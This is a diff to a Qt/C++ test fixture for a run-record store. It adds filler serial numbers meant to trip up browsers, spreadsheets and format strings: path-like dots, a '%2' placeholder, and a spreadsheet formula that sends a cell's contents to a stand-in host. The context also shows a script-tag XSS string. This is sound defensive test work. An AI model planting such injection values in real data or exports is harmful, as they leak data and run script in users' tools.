@@ -21,6 +21,8 @@ inline constexpr const char *kHostileSerial = "<script>alert(\"x\")</script>";
 inline constexpr const char *kHostileOperator = "O'Brien <i>&amp;</i>";
 inline constexpr const char *kForeignOperator = "Zoë Łukasz";
 inline constexpr int kFillerRuns = 120;
+// Serials of the filler station that a browser, a spreadsheet or QString::arg() would misread.
+inline const QStringList kTrickySerials{"..", ".", "=HYPERLINK(\"http://x/?\"&B2)", "%2", "-5"};
 
 // A full-stroke run of `cycles` cycles with a position error of `error` on the axis named, if any.
 inline runs::RunRecord strokeRun(const QString &id, const QString &station, const QString &serial,
@@ -87,8 +89,9 @@ inline base::Status storePlant(runs::RunDatabase &records, const QDateTime &now)
                   kFocusAxis, "120"),
     };
     for (int i = 0; i < kFillerRuns; ++i)
-        list.push_back(strokeRun(fillerId(i), "bench-9", QStringLiteral("F-%1").arg(i), "filler",
-                                 hours(100 + i), 1));
+        list.push_back(strokeRun(fillerId(i), "bench-9",
+                                 kTrickySerials.value(i, QStringLiteral("F-%1").arg(i)),
+                                 i < kTrickySerials.size() ? "%1" : "filler", hours(100 + i), 1));
     for (const runs::RunRecord &run : list)
         if (auto stored = runs::RunStore(records).put(run); !stored)
             return stored;
